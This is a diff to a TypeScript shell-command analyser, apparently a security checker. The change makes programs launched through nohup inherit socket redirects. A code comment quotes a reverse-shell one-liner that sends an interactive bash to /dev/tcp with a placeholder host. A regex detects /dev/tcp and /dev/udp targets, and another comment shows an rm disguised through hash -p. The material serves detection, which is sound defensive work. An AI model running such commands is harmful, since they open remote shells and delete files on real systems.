@@ -214,7 +214,15 @@ export function runCommand(argv: readonly Field[], context: RunContext, analysis
     judgeEvaluatedArguments(name, plan.reading, args, wordEnvironment(analysis, state), analysis, state);
     applyBuiltin(name, plan.reading, args, analysis, state, context.stdin);
   }
-  runLaunches(plan, index, analysis, state);
+  runLaunches(plan, index, analysis, state, socketRedirects(context.redirects));
+}
+
+/**
+ * A launched program inherits its launcher's open files: `nohup bash -i >& /dev/tcp/h/p 0>&1` wires the shell to
+ * the connection as surely as without nohup. Only the connections are handed on (a file redirect is the launcher's).
+ */
+function socketRedirects(redirects: readonly RedirectTarget[]): RedirectTarget[] {
+  return redirects.filter((target) => target.field.values.length > 0 && target.field.values.every((value) => /^\/dev\/(?:tcp|udp)\//.test(value)));
 }
 
 /** `hash -p /bin/rm ls; ls …`: the name runs the remembered path (a builtin keeps its own meaning). */
